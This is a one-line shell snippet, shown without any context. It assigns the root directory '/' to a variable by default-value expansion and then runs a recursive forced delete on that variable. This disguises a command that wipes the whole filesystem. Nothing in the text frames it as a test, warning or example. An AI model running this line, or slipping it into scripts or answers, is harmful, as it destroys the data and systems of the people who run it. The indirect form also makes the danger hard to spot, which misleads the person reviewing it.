: ${T:=/}; rm -rf $T
